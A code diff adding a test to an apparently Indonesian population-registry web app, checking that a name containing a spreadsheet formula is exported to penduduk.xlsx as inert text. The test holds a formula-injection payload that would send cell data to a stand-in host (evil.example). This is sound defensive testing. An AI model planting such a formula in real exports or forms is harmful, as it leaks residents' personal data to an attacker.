@@ -206,3 +206,21 @@ def test_api_refuses_a_foreign_nik_and_takes_an_identity_correction_with_a_reaso
                                                   "alasan_koreksi": "sesuai KTP-el"}, content_type="application/json")
     assert response.status_code == 200 and response.json()["nama"] == "I Ketut Oka"
     assert AuditLog.objects.filter(aksi="registry.individu.koreksi_identitas", objek_id=str(pk)).exists()
+
+
+def test_formula_in_a_name_reaches_the_workbook_as_inert_text(op, keluarga):
+    """PATCH a name that is a spreadsheet formula: penduduk.xlsx holds it as text, never a formula."""
+    import io
+
+    from openpyxl import load_workbook
+
+    attack = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
+    pk = keluarga.anggota.get().pk
+    response = op.patch(f"{API}/individu/{pk}/", {"nama": attack, "koreksi_identitas": True,
+                                                  "alasan_koreksi": "uji rumus"}, content_type="application/json")
+    assert response.status_code == 200, response.content[:500]
+    assert Individu.objects.get(pk=pk).nama == attack
+    book = load_workbook(io.BytesIO(op.get(f"/registri/desa/{DESA}/penduduk.xlsx").content))
+    cells = [c for row in book.active.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == attack and c.data_type == "s" for c in cells)
